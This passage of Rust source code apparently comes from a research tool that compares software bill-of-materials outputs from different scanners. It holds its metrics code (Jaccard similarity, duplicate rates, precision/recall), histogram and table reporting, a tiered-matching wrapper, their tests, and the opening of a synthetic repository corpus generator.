                prop_assert_eq!(Some(j), jaccard(&b, &a));
                if a == b {
                    prop_assert!((j - 1.0).abs() < 1e-12);
                }
                if a.is_disjoint(&b) {
                    prop_assert!(j.abs() < 1e-12);
                }
            }
        }
        if !a.is_empty() {
            prop_assert_eq!(jaccard(&a, &a), Some(1.0));
        }
    }

    /// Adding a common element never decreases Jaccard for disjoint sets.
    #[test]
    fn jaccard_grows_with_shared_elements(a in key_set_strategy(), b in key_set_strategy()) {
        let (Some(j0), true) = (jaccard(&a, &b), !(a.is_empty() && b.is_empty())) else {
            return Ok(());
        };
        let shared = ComponentKey { name: "shared-zz".into(), version: "1".into() };
        let mut a2 = a.clone();
        let mut b2 = b.clone();
        a2.insert(shared.clone());
        b2.insert(shared);
        let j1 = jaccard(&a2, &b2).unwrap();
        prop_assert!(j1 >= j0 - 1e-12, "{j1} < {j0}");
    }

    /// Duplicate rate is a proportion; single-entry SBOMs contribute none.
    #[test]
    fn duplicate_rate_bounds(names in prop::collection::vec("[a-c]{1,2}", 0..20)) {
        let mut sbom = Sbom::new("t", "1");
        for n in &names {
            sbom.push(Component::new(Ecosystem::Rust, n.clone(), Some("1".into())));
        }
        let rate = duplicate_rate([&sbom]);
        prop_assert!((0.0..=1.0).contains(&rate));
        if names.len() <= 1 {
            prop_assert_eq!(rate, 0.0);
        }
        let distinct: BTreeSet<&String> = names.iter().collect();
        if distinct.len() == names.len() {
            prop_assert_eq!(rate, 0.0);
        }
    }

    /// Precision/recall stay in range and respect the confusion-matrix
    /// identities.
    #[test]
    fn precision_recall_identities(
        reported in prop::collection::btree_set(("[a-d]{1,2}", "[0-9]"), 0..10),
        truth in prop::collection::btree_set(("[a-d]{1,2}", "[0-9]"), 0..10),
    ) {
        let reported: BTreeSet<(String, String)> = reported.into_iter().collect();
        let truth: BTreeSet<(String, String)> = truth.into_iter().collect();
        let pr = PrecisionRecall::score(&reported, &truth);
        prop_assert_eq!(pr.true_positives + pr.false_positives, reported.len());
        prop_assert_eq!(pr.true_positives + pr.false_negatives, truth.len());
        prop_assert!((0.0..=1.0).contains(&pr.precision()));
        prop_assert!((0.0..=1.0).contains(&pr.recall()));
        prop_assert!((0.0..=1.0).contains(&pr.f1()));
        if reported == truth && !truth.is_empty() {
            prop_assert_eq!(pr.f1(), 1.0);
        }
    }

    /// Histograms conserve their samples and share_below is monotone.
    #[test]
    fn histogram_conservation(samples in prop::collection::vec(0.0f64..=1.0, 0..60)) {
        let mut h = Histogram::unit();
        for s in &samples {
            h.add(*s);
        }
        prop_assert_eq!(h.total(), samples.len());
        prop_assert_eq!(h.bins().iter().sum::<usize>(), samples.len());
        let mut prev = 0.0;
        for t in [0.1, 0.3, 0.5, 0.7, 0.9, 1.0] {
            let share = h.share_below(t);
            prop_assert!(share >= prev - 1e-12);
            prop_assert!((0.0..=1.0).contains(&share));
            prev = share;
        }
    }
}

//! Report primitives: histograms (Fig. 2) and aligned text tables
//! (Tables I–IV), with CSV export for plotting.

use std::fmt;

/// A fixed-width histogram over `[0, 1]` (the Jaccard domain of Fig. 2).
#[derive(Debug, Clone, PartialEq)]
pub struct Histogram {
    bins: Vec<usize>,
    lo: f64,
    hi: f64,
}

impl Histogram {
    /// Creates a histogram with `bins` equal-width bins over `[lo, hi]`.
    ///
    /// # Panics
    ///
    /// Panics when `bins == 0` or `lo >= hi`.
    pub fn new(bins: usize, lo: f64, hi: f64) -> Self {
        assert!(bins > 0, "histogram needs at least one bin");
        assert!(lo < hi, "histogram bounds must be increasing");
        Histogram {
            bins: vec![0; bins],
            lo,
            hi,
        }
    }

    /// A 20-bin histogram over the unit interval (Fig. 2's layout).
    pub fn unit() -> Self {
        Histogram::new(20, 0.0, 1.0)
    }

    /// Records one sample (values outside the range clamp to the end bins).
    pub fn add(&mut self, value: f64) {
        let width = (self.hi - self.lo) / self.bins.len() as f64;
        let idx = ((value - self.lo) / width).floor() as i64;
        let idx = idx.clamp(0, self.bins.len() as i64 - 1) as usize;
        self.bins[idx] += 1;
    }

    /// Bin counts.
    pub fn bins(&self) -> &[usize] {
        &self.bins
    }

    /// Total samples recorded.
    pub fn total(&self) -> usize {
        self.bins.iter().sum()
    }

    /// Share of samples in bins whose upper edge is ≤ `threshold`.
    pub fn share_below(&self, threshold: f64) -> f64 {
        if self.total() == 0 {
            return 0.0;
        }
        let width = (self.hi - self.lo) / self.bins.len() as f64;
        let mut count = 0;
        for (i, &n) in self.bins.iter().enumerate() {
            let upper = self.lo + (i as f64 + 1.0) * width;
            if upper <= threshold + 1e-12 {
                count += n;
            }
        }
        count as f64 / self.total() as f64
    }

    /// Renders an ASCII bar chart (one row per bin).
    pub fn ascii(&self, max_width: usize) -> String {
        let peak = self.bins.iter().copied().max().unwrap_or(0).max(1);
        let width = (self.hi - self.lo) / self.bins.len() as f64;
        let mut out = String::new();
        for (i, &n) in self.bins.iter().enumerate() {
            let lo = self.lo + i as f64 * width;
            let hi = lo + width;
            let bar = "#".repeat(n * max_width / peak);
            out.push_str(&format!("{lo:>5.2}-{hi:<5.2} |{bar} {n}\n"));
        }
        out
    }

    /// CSV rows: `bin_lo,bin_hi,count`.
    pub fn to_csv(&self) -> String {
        let width = (self.hi - self.lo) / self.bins.len() as f64;
        let mut out = String::from("bin_lo,bin_hi,count\n");
        for (i, &n) in self.bins.iter().enumerate() {
            let lo = self.lo + i as f64 * width;
            out.push_str(&format!("{:.4},{:.4},{}\n", lo, lo + width, n));
        }
        out
    }
}

/// A simple aligned text table with a header row.
#[derive(Debug, Clone, Default)]
pub struct TextTable {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl TextTable {
    /// Creates a table with the given header.
    pub fn new<I, S>(header: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        TextTable {
            header: header.into_iter().map(Into::into).collect(),
            rows: Vec::new(),
        }
    }

    /// Appends a row (padded/truncated to the header width).
    pub fn row<I, S>(&mut self, cells: I) -> &mut Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        let mut row: Vec<String> = cells.into_iter().map(Into::into).collect();
        row.resize(self.header.len(), String::new());
        self.rows.push(row);
        self
    }

    /// Number of data rows.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// True when there are no data rows.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// CSV rendering.
    pub fn to_csv(&self) -> String {
        let escape = |s: &String| {
            if s.contains([',', '"', '\n']) {
                format!("\"{}\"", s.replace('"', "\"\""))
            } else {
                s.clone()
            }
        };
        let mut out = String::new();
        out.push_str(&self.header.iter().map(escape).collect::<Vec<_>>().join(","));
        out.push('\n');
        for row in &self.rows {
            out.push_str(&row.iter().map(escape).collect::<Vec<_>>().join(","));
            out.push('\n');
        }
        out
    }
}

impl fmt::Display for TextTable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut widths: Vec<usize> = self.header.iter().map(String::len).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                if cell.len() > widths[i] {
                    widths[i] = cell.len();
                }
            }
        }
        let render_row = |cells: &[String]| {
            cells
                .iter()
                .enumerate()
                .map(|(i, c)| format!("{:width$}", c, width = widths[i]))
                .collect::<Vec<_>>()
                .join("  ")
        };
        writeln!(f, "{}", render_row(&self.header).trim_end())?;
        writeln!(
            f,
            "{}",
            widths
                .iter()
                .map(|w| "-".repeat(*w))
                .collect::<Vec<_>>()
                .join("  ")
        )?;
        for row in &self.rows {
            writeln!(f, "{}", render_row(row).trim_end())?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn histogram_binning() {
        let mut h = Histogram::unit();
        h.add(0.0);
        h.add(0.04);
        h.add(0.5);
        h.add(1.0); // clamps into the last bin
        assert_eq!(h.total(), 4);
        assert_eq!(h.bins()[0], 2);
        assert_eq!(h.bins()[10], 1);
        assert_eq!(h.bins()[19], 1);
    }

    #[test]
    fn histogram_share_below() {
        let mut h = Histogram::unit();
        for _ in 0..8 {
            h.add(0.01);
        }
        h.add(0.9);
        h.add(0.95);
        assert!((h.share_below(0.5) - 0.8).abs() < 1e-9);
    }

    #[test]
    fn histogram_csv_and_ascii() {
        let mut h = Histogram::new(4, 0.0, 1.0);
        h.add(0.1);
        h.add(0.6);
        let csv = h.to_csv();
        assert!(csv.starts_with("bin_lo,bin_hi,count\n"));
        assert_eq!(csv.lines().count(), 5);
        let art = h.ascii(10);
        assert!(art.contains('#'));
    }

    #[test]
    #[should_panic(expected = "at least one bin")]
    fn histogram_zero_bins_panics() {
        let _ = Histogram::new(0, 0.0, 1.0);
    }

    #[test]
    fn table_renders_aligned() {
        let mut t = TextTable::new(["Language", "Trivy", "Syft"]);
        t.row(["Python", "14.05%", "12.56%"]);
        t.row(["Go", "6.69%", "9.97%"]);
        let s = t.to_string();
        assert!(s.contains("Language"));
        assert!(s.lines().count() >= 4);
        let csv = t.to_csv();
        assert!(csv.starts_with("Language,Trivy,Syft\n"));
    }

    #[test]
    fn table_csv_escaping() {
        let mut t = TextTable::new(["a"]);
        t.row(["x,y\"z"]);
        assert!(t.to_csv().contains("\"x,y\"\"z\""));
    }

    #[test]
    fn short_rows_padded() {
        let mut t = TextTable::new(["a", "b"]);
        t.row(["only-one"]);
        assert_eq!(t.len(), 1);
        assert!(t.to_string().contains("only-one"));
    }
}

//! The matched differential: exact and tiered similarity side by side.
//!
//! [`MatchedDiff`] wraps one [`sbomdiff_matching::MatchReport`] and exposes
//! the two numbers every consumer (CLI, service, experiments) reports
//! together: `jaccard_exact` — the paper's Eq. 1 over exact
//! `(name, version)` keys — and `jaccard_matched` — the same metric after
//! the multi-tier matcher absorbs the cosmetic cross-tool divergences of
//! §V-E. The gap between the two quantifies how much of the apparent
//! disagreement between tools is naming convention rather than substance.

use sbomdiff_matching::{MatchConfig, MatchReport, MatchTier};
use sbomdiff_types::Sbom;

/// A differential report computed under the tiered matcher.
#[derive(Debug, Clone, PartialEq)]
pub struct MatchedDiff {
    /// The underlying match report (pairs, leftovers, totals).
    pub report: MatchReport,
}

impl MatchedDiff {
    /// Runs the tiered matcher over two SBOMs.
    pub fn compute(a: &Sbom, b: &Sbom, cfg: &MatchConfig) -> MatchedDiff {
        MatchedDiff {
            report: sbomdiff_matching::match_sboms(a, b, cfg),
        }
    }

    /// Eq. 1 over exact keys (identical to [`crate::jaccard`] of the two
    /// [`crate::key_set`]s — asserted by tests).
    pub fn jaccard_exact(&self) -> Option<f64> {
        self.report.jaccard_exact()
    }

    /// Eq. 1 counting every tier's matches as intersection elements.
    pub fn jaccard_matched(&self) -> Option<f64> {
        self.report.jaccard_matched()
    }

    /// `(tier label, matches)` for every tier, strongest first.
    pub fn tier_breakdown(&self) -> Vec<(&'static str, usize)> {
        let counts = self.report.tier_counts();
        MatchTier::ALL
            .iter()
            .map(|t| (t.label(), counts[t.index()]))
            .collect()
    }

    /// Matches recovered beyond exact identity — the §V-E effect size.
    pub fn recovered(&self) -> usize {
        self.report.matched() - self.report.exact_matched()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::metrics::{jaccard, key_set};
    use sbomdiff_types::{Component, Ecosystem};

    fn sbom(entries: &[(&str, &str)]) -> Sbom {
        let mut s = Sbom::new("t", "1");
        for (name, version) in entries {
            s.push(Component::new(
                Ecosystem::Python,
                *name,
                Some(version.to_string()),
            ));
        }
        s
    }

    #[test]
    fn jaccard_exact_agrees_with_baseline_metrics() {
        let a = sbom(&[("flask", "2.3.2"), ("Jinja2", "3.1.2"), ("extra", "1.0")]);
        let b = sbom(&[("flask", "2.3.2"), ("jinja2", "3.1.2")]);
        let d = MatchedDiff::compute(&a, &b, &MatchConfig::default());
        assert_eq!(
            d.jaccard_exact(),
            jaccard(&key_set(&a), &key_set(&b)),
            "MatchedDiff must reproduce the baseline exact Jaccard"
        );
        // The PEP 503 divergence is recovered, so matched > exact.
        assert_eq!(d.recovered(), 1);
        assert!(d.jaccard_matched() > d.jaccard_exact());
    }

    #[test]
    fn tier_breakdown_labels_are_ordered() {
        let d = MatchedDiff::compute(
            &sbom(&[("x", "1")]),
            &sbom(&[("x", "1")]),
            &MatchConfig::default(),
        );
        let labels: Vec<_> = d.tier_breakdown().iter().map(|(l, _)| *l).collect();
        assert_eq!(labels, ["exact", "purl", "alias", "normalized", "fuzzy"]);
        assert_eq!(d.tier_breakdown()[0].1, 1);
        assert_eq!(d.recovered(), 0);
    }
}

//! The differential-analysis engine (§III).
//!
//! Given SBOMs produced by different tools for the same repositories, this
//! crate computes the paper's metrics: package counts (Fig. 1), pairwise
//! Jaccard similarity over `(name, version)` sets (Eq. 1, Fig. 2),
//! duplicate-package rates (Table I), and precision/recall against ground
//! truth (Table III).

#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod matched;
pub mod metrics;
pub mod report;

pub use matched::MatchedDiff;
pub use metrics::{
    diagnostic_totals, duplicate_rate, jaccard, jaccard_canonical, key_set, key_set_canonical,
    PrecisionRecall,
};
pub use report::{Histogram, TextTable};

#[cfg(test)]
mod tests {
    use sbomdiff_types::{Component, Ecosystem, Sbom};

    use super::*;

    #[test]
    fn end_to_end_metric_flow() {
        let mut a = Sbom::new("A", "1");
        a.push(Component::new(Ecosystem::Python, "x", Some("1.0".into())));
        a.push(Component::new(Ecosystem::Python, "y", Some("2.0".into())));
        let mut b = Sbom::new("B", "1");
        b.push(Component::new(Ecosystem::Python, "x", Some("1.0".into())));
        let j = jaccard(&key_set(&a), &key_set(&b)).unwrap();
        assert!((j - 0.5).abs() < 1e-9);
    }
}

//! Set extraction, Jaccard similarity, duplicate rates, precision/recall.

use std::collections::{BTreeMap, BTreeSet};

use sbomdiff_types::{ComponentKey, DiagClass, Sbom};

/// The exact `(name, version)` set of an SBOM (Eq. 1's A and B).
pub fn key_set(sbom: &Sbom) -> BTreeSet<ComponentKey> {
    sbom.keys().collect()
}

/// The normalized `(name, version)` set: ecosystem name normalization and
/// `v`-prefix stripping applied, isolating *semantic* disagreement from the
/// purely cosmetic convention differences of §V-E.
pub fn key_set_canonical(sbom: &Sbom) -> BTreeSet<ComponentKey> {
    sbom.components()
        .iter()
        .map(|c| c.canonical_key())
        .collect()
}

/// Jaccard similarity |A∩B| / |A∪B| (Eq. 1). `None` when both sets are
/// empty (the paper excludes repositories where tools found nothing).
pub fn jaccard(a: &BTreeSet<ComponentKey>, b: &BTreeSet<ComponentKey>) -> Option<f64> {
    if a.is_empty() && b.is_empty() {
        return None;
    }
    // One walk instead of two: |A∪B| = |A| + |B| − |A∩B|.
    let intersection = a.intersection(b).count();
    let union = a.len() + b.len() - intersection;
    Some(intersection as f64 / union as f64)
}

/// Jaccard over the canonical key sets of two SBOMs.
pub fn jaccard_canonical(a: &Sbom, b: &Sbom) -> Option<f64> {
    jaccard(&key_set_canonical(a), &key_set_canonical(b))
}

/// Duplicate-package rate (Table I): duplicate entries / total entries,
/// over the repositories where the tool found at least one package.
pub fn duplicate_rate<'a, I>(sboms: I) -> f64
where
    I: IntoIterator<Item = &'a Sbom>,
{
    let mut duplicates = 0usize;
    let mut total = 0usize;
    for sbom in sboms {
        if sbom.is_empty() {
            continue; // §IV-C: repositories with no findings excluded
        }
        duplicates += sbom.duplicate_entries();
        total += sbom.len();
    }
    if total == 0 {
        0.0
    } else {
        duplicates as f64 / total as f64
    }
}

/// Per-class totals of the diagnostics attached to a set of SBOMs: how
/// often each Table IV failure class fired across a scan. Classes that
/// never fired are omitted.
pub fn diagnostic_totals<'a, I>(sboms: I) -> BTreeMap<DiagClass, usize>
where
    I: IntoIterator<Item = &'a Sbom>,
{
    let mut totals = BTreeMap::new();
    for sbom in sboms {
        for diag in sbom.diagnostics() {
            *totals.entry(diag.class).or_insert(0) += 1;
        }
    }
    totals
}

/// Precision/recall of a reported set against ground truth (Table III).
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct PrecisionRecall {
    /// Correct `(name, version)` matches.
    pub true_positives: usize,
    /// Reported pairs not in the ground truth.
    pub false_positives: usize,
    /// Ground-truth pairs not reported.
    pub false_negatives: usize,
}

impl PrecisionRecall {
    /// Scores `reported` against `truth` (both as `(name, version)` pairs;
    /// the caller normalizes names).
    pub fn score(
        reported: &BTreeSet<(String, String)>,
        truth: &BTreeSet<(String, String)>,
    ) -> Self {
        let tp = reported.intersection(truth).count();
        PrecisionRecall {
            true_positives: tp,
            false_positives: reported.len() - tp,
            false_negatives: truth.len() - tp,
        }
    }

    /// Merges counts from another measurement (micro-averaging).
    pub fn merge(&mut self, other: PrecisionRecall) {
        self.true_positives += other.true_positives;
        self.false_positives += other.false_positives;
        self.false_negatives += other.false_negatives;
    }

    /// TP / (TP + FP); 0 when nothing was reported.
    pub fn precision(&self) -> f64 {
        let denom = self.true_positives + self.false_positives;
        if denom == 0 {
            0.0
        } else {
            self.true_positives as f64 / denom as f64
        }
    }

    /// TP / (TP + FN); 0 when the truth set is empty.
    pub fn recall(&self) -> f64 {
        let denom = self.true_positives + self.false_negatives;
        if denom == 0 {
            0.0
        } else {
            self.true_positives as f64 / denom as f64
        }
    }

    /// Harmonic mean of precision and recall.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::{Component, Ecosystem};

    fn sbom(entries: &[(&str, Option<&str>)]) -> Sbom {
        let mut s = Sbom::new("t", "1");
        for (name, version) in entries {
            s.push(Component::new(
                Ecosystem::Python,
                *name,
                version.map(str::to_string),
            ));
        }
        s
    }

    #[test]
    fn jaccard_basic_properties() {
        let a = key_set(&sbom(&[("x", Some("1")), ("y", Some("2"))]));
        let b = key_set(&sbom(&[("x", Some("1")), ("z", Some("3"))]));
        let j = jaccard(&a, &b).unwrap();
        assert!((j - 1.0 / 3.0).abs() < 1e-9);
        // Symmetry and identity.
        assert_eq!(jaccard(&a, &b), jaccard(&b, &a));
        assert_eq!(jaccard(&a, &a), Some(1.0));
        // Both empty → excluded.
        let empty = key_set(&sbom(&[]));
        assert_eq!(jaccard(&empty, &empty), None);
        // One empty → 0.
        assert_eq!(jaccard(&a, &empty), Some(0.0));
    }

    #[test]
    fn version_mismatch_counts_as_disagreement() {
        let a = key_set(&sbom(&[("x", Some("1.0"))]));
        let b = key_set(&sbom(&[("x", Some("2.0"))]));
        assert_eq!(jaccard(&a, &b), Some(0.0));
    }

    #[test]
    fn canonical_jaccard_forgives_v_prefix() {
        let mut a = Sbom::new("syft", "1");
        a.push(Component::new(
            Ecosystem::Go,
            "github.com/a/b",
            Some("v1.0.0".into()),
        ));
        let mut b = Sbom::new("trivy", "1");
        b.push(Component::new(
            Ecosystem::Go,
            "github.com/a/b",
            Some("1.0.0".into()),
        ));
        // Exact keys disagree...
        assert_eq!(jaccard(&key_set(&a), &key_set(&b)), Some(0.0));
        // ...canonical keys agree (§V-E is purely cosmetic).
        assert_eq!(jaccard_canonical(&a, &b), Some(1.0));
    }

    #[test]
    fn canonical_jaccard_folds_pep503_spellings() {
        // §V-E / PEP 503: `Foo_Bar` ≡ `foo-bar` ≡ `foo.bar` for PyPI —
        // every spelling pair must land in the same canonical key, so the
        // canonical Jaccard sees full agreement where the exact one sees
        // none.
        let spellings = ["Flask_Login", "flask-login", "flask.login", "FLASK.LOGIN"];
        for (i, sa) in spellings.iter().enumerate() {
            for sb in &spellings[i + 1..] {
                let mut a = Sbom::new("syft", "1");
                a.push(Component::new(Ecosystem::Python, *sa, Some("0.6.2".into())));
                let mut b = Sbom::new("trivy", "1");
                b.push(Component::new(Ecosystem::Python, *sb, Some("0.6.2".into())));
                assert_eq!(
                    jaccard(&key_set(&a), &key_set(&b)),
                    Some(0.0),
                    "{sa} vs {sb}: exact keys must differ"
                );
                assert_eq!(
                    jaccard_canonical(&a, &b),
                    Some(1.0),
                    "{sa} vs {sb}: canonical keys must agree"
                );
            }
        }
    }

    #[test]
    fn key_set_canonical_collapses_pep503_duplicates() {
        // Two spellings of one package in a single document collapse to a
        // single canonical key (but remain two exact keys).
        let mut s = Sbom::new("t", "1");
        s.push(Component::new(
            Ecosystem::Python,
            "zope.interface",
            Some("6.1".into()),
        ));
        s.push(Component::new(
            Ecosystem::Python,
            "zope_interface",
            Some("6.1".into()),
        ));
        assert_eq!(key_set(&s).len(), 2);
        let canon = key_set_canonical(&s);
        assert_eq!(canon.len(), 1);
        assert_eq!(canon.iter().next().unwrap().name.as_str(), "zope-interface");
    }

    #[test]
    fn pep503_folding_is_python_only() {
        // Rust names are case- and separator-significant: `serde_json`
        // and `serde-json` are different crates and must stay distinct
        // under canonicalization.
        let mut a = Sbom::new("t", "1");
        a.push(Component::new(
            Ecosystem::Rust,
            "serde_json",
            Some("1.0".into()),
        ));
        let mut b = Sbom::new("t", "1");
        b.push(Component::new(
            Ecosystem::Rust,
            "serde-json",
            Some("1.0".into()),
        ));
        assert_eq!(jaccard_canonical(&a, &b), Some(0.0));
    }

    #[test]
    fn duplicate_rate_excludes_empty() {
        let sboms = vec![
            sbom(&[("x", Some("1")), ("x", Some("2")), ("y", Some("1"))]),
            sbom(&[]),
            sbom(&[("z", Some("1"))]),
        ];
        let rate = duplicate_rate(&sboms);
        assert!((rate - 0.25).abs() < 1e-9); // 1 duplicate over 4 entries
    }

    #[test]
    fn precision_recall_table_iii_shape() {
        let reported: BTreeSet<(String, String)> = [
            ("numpy".to_string(), "1.19.2".to_string()),
            ("ghost".to_string(), "0.1".to_string()),
        ]
        .into();
        let truth: BTreeSet<(String, String)> = [
            ("numpy".to_string(), "1.19.2".to_string()),
            ("urllib3".to_string(), "2.0.4".to_string()),
            ("idna".to_string(), "3.4".to_string()),
        ]
        .into();
        let pr = PrecisionRecall::score(&reported, &truth);
        assert_eq!(pr.true_positives, 1);
        assert_eq!(pr.false_positives, 1);
        assert_eq!(pr.false_negatives, 2);
        assert!((pr.precision() - 0.5).abs() < 1e-9);
        assert!((pr.recall() - 1.0 / 3.0).abs() < 1e-9);
        assert!(pr.f1() > 0.0);
    }

    #[test]
    fn precision_recall_merge() {
        let mut total = PrecisionRecall::default();
        total.merge(PrecisionRecall {
            true_positives: 3,
            false_positives: 1,
            false_negatives: 2,
        });
        total.merge(PrecisionRecall {
            true_positives: 1,
            false_positives: 3,
            false_negatives: 0,
        });
        assert_eq!(total.true_positives, 4);
        assert!((total.precision() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn empty_edge_cases() {
        let pr = PrecisionRecall::default();
        assert_eq!(pr.precision(), 0.0);
        assert_eq!(pr.recall(), 0.0);
        assert_eq!(pr.f1(), 0.0);
        assert_eq!(duplicate_rate(&[] as &[Sbom]), 0.0);
    }

    #[test]
    fn jaccard_disjoint_sets_is_zero() {
        let a = key_set(&sbom(&[("a", Some("1")), ("b", None)]));
        let b = key_set(&sbom(&[("c", Some("2")), ("d", None)]));
        assert_eq!(jaccard(&a, &b), Some(0.0));
        // Canonicalization cannot create overlap out of disjoint names.
        let sa = sbom(&[("a", Some("1"))]);
        let sb = sbom(&[("c", Some("1"))]);
        assert_eq!(jaccard_canonical(&sa, &sb), Some(0.0));
    }

    #[test]
    fn jaccard_identical_sets_is_one_regardless_of_size() {
        for n in [1usize, 3, 17] {
            let entries: Vec<(String, Option<String>)> = (0..n)
                .map(|i| (format!("pkg{i}"), Some(format!("{i}.0"))))
                .collect();
            let borrowed: Vec<(&str, Option<&str>)> = entries
                .iter()
                .map(|(name, v)| (name.as_str(), v.as_deref()))
                .collect();
            let s = key_set(&sbom(&borrowed));
            assert_eq!(jaccard(&s, &s.clone()), Some(1.0), "n={n}");
        }
    }

    #[test]
    fn duplicate_rate_all_duplicates() {
        // Every entry after the first of each SBOM is a duplicate: the rate
        // approaches 1 but is (n - distinct)/n, never exactly 1.
        let s = sbom(&[
            ("x", Some("1")),
            ("x", Some("1")),
            ("x", Some("1")),
            ("x", Some("1")),
        ]);
        let rate = duplicate_rate(&[s]);
        assert!(
            (rate - 0.75).abs() < 1e-9,
            "3 duplicates over 4 entries, got {rate}"
        );
        // Two such SBOMs micro-average, not average-of-averages.
        let sboms = vec![
            sbom(&[("x", Some("1")), ("x", Some("1"))]),
            sbom(&[
                ("y", Some("2")),
                ("y", Some("2")),
                ("y", Some("2")),
                ("y", Some("2")),
            ]),
        ];
        let rate = duplicate_rate(&sboms);
        assert!((rate - 4.0 / 6.0).abs() < 1e-9, "got {rate}");
    }

    #[test]
    fn diagnostic_totals_roll_up_per_class() {
        use sbomdiff_types::Diagnostic;
        let mut a = sbom(&[("x", Some("1"))]);
        a.push_diagnostic(Diagnostic::new(DiagClass::MalformedFile, "bad json"));
        a.push_diagnostic(Diagnostic::new(DiagClass::UnpinnedDropped, "requests>=2.8"));
        let mut b = sbom(&[("y", Some("2"))]);
        b.push_diagnostic(Diagnostic::new(DiagClass::MalformedFile, "bad toml"));
        let totals = diagnostic_totals([&a, &b]);
        assert_eq!(totals.get(&DiagClass::MalformedFile), Some(&2));
        assert_eq!(totals.get(&DiagClass::UnpinnedDropped), Some(&1));
        assert_eq!(totals.get(&DiagClass::TruncatedInput), None);
    }

    #[test]
    fn precision_recall_empty_ground_truth() {
        // Nothing is actually installed, but a tool still reports packages:
        // everything reported is a false positive, and recall is defined as
        // 0 (not NaN) so Table III aggregation stays total.
        let reported: BTreeSet<(String, String)> =
            [("ghost".to_string(), "0.1".to_string())].into();
        let truth: BTreeSet<(String, String)> = BTreeSet::new();
        let pr = PrecisionRecall::score(&reported, &truth);
        assert_eq!(
            (pr.true_positives, pr.false_positives, pr.false_negatives),
            (0, 1, 0)
        );
        assert_eq!(pr.precision(), 0.0);
        assert_eq!(pr.recall(), 0.0);
        assert_eq!(pr.f1(), 0.0);

        // And the mirror image: empty report against a non-empty truth.
        let pr = PrecisionRecall::score(&truth, &reported);
        assert_eq!(
            (pr.true_positives, pr.false_positives, pr.false_negatives),
            (0, 0, 1)
        );
        assert_eq!(pr.precision(), 0.0);
        assert_eq!(pr.recall(), 0.0);
    }
}

//! Calibrated synthetic repository corpus.
//!
//! Replaces the paper's 7,876 downloaded GitHub repositories (§III-B) with
//! seeded synthetic repositories whose population statistics match the
//! numbers the paper reports (§V):
//!
//! * 93% of Python repositories carry raw metadata only; 5.7 metadata
//!   files per Python repository on average;
//! * 46% of `requirements.txt` dependencies are pinned;
//! * about 1.8% of Python repositories use backslash line continuations,
//!   and `-r` includes / VCS installs each appear in ~10% of repositories;
//! * 47% of JavaScript repositories are raw-only; 12.8 metadata files per
//!   JavaScript repository; 76% of `package.json` dependencies are dev;
//! * 56% of Rust repositories are raw-only.
//!
//! Lockfiles are synthesized *consistently* with the raw metadata by
//! resolving it against the same registry the tool emulators query, so
//! lockfile-reading tools and resolution-performing tools see a coherent
//! world.

pub mod gen;
pub mod render;
pub mod stats;

pub use gen::{CorpusConfig, RepoProfile};
pub use stats::CorpusStats;

use std::collections::BTreeMap;

use rand::rngs::StdRng;
use rand::SeedableRng;

use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_types::Ecosystem;

/// A generated corpus: repositories per ecosystem.
///
/// # Examples
///
/// ```
/// use sbomdiff_corpus::{Corpus, CorpusConfig};
/// use sbomdiff_registry::Registries;
/// use sbomdiff_types::Ecosystem;
///
/// let registries = Registries::generate(7);
/// let config = CorpusConfig { repos_per_language: 3, seed: 1 };
/// let repos = Corpus::build_language(&registries, &config, Ecosystem::Python);
/// assert_eq!(repos.len(), 3);
/// assert!(repos[0].text("requirements.txt").is_some());
/// ```
#[derive(Debug, Clone)]
pub struct Corpus {
    repos: BTreeMap<Ecosystem, Vec<RepoFs>>,
}

impl Corpus {
    /// Builds a corpus for all nine ecosystems using the default worker
    /// count (per-repository seeding keeps the result byte-identical to a
    /// sequential build).
    pub fn build(registries: &Registries, config: &CorpusConfig) -> Self {
        Corpus::build_with_jobs(registries, config, sbomdiff_parallel::default_jobs())
    }

    /// Builds a corpus with an explicit worker count. The fan-out is over
    /// individual `(ecosystem, index)` repositories, and each repository
    /// owns an RNG stream derived from `(seed, ecosystem, index)`, so the
    /// result does not depend on `jobs` or on scheduling.
    pub fn build_with_jobs(registries: &Registries, config: &CorpusConfig, jobs: usize) -> Self {
        let items: Vec<(Ecosystem, usize)> = Ecosystem::ALL
            .into_iter()
            .flat_map(|eco| (0..config.repos_per_language).map(move |i| (eco, i)))
            .collect();
        let generated = sbomdiff_parallel::par_map(jobs, &items, |_, &(eco, i)| {
            gen_one(registries, config, eco, i)
        });
        let mut repos: BTreeMap<Ecosystem, Vec<RepoFs>> = BTreeMap::new();
        for ((eco, _), repo) in items.into_iter().zip(generated) {
            repos.entry(eco).or_default().push(repo);
        }
        Corpus { repos }
    }

    /// Builds the repositories for one ecosystem only.
    pub fn build_language(
        registries: &Registries,
        config: &CorpusConfig,
        eco: Ecosystem,
    ) -> Vec<RepoFs> {
        Corpus::build_language_with_jobs(registries, config, eco, 1)
    }

    /// [`build_language`](Corpus::build_language) with an explicit worker
    /// count; byte-identical for every `jobs` value.
    pub fn build_language_with_jobs(
        registries: &Registries,
        config: &CorpusConfig,
        eco: Ecosystem,
        jobs: usize,
    ) -> Vec<RepoFs> {
        let indices: Vec<usize> = (0..config.repos_per_language).collect();
        sbomdiff_parallel::par_map(jobs, &indices, |_, &i| gen_one(registries, config, eco, i))
    }

    /// Builds a corpus from pre-generated per-language repository lists
    /// (weighted corpora).
    pub fn from_map(repos: BTreeMap<Ecosystem, Vec<RepoFs>>) -> Self {
        Corpus { repos }
    }

    /// The repositories for one ecosystem.
    pub fn language(&self, eco: Ecosystem) -> &[RepoFs] {
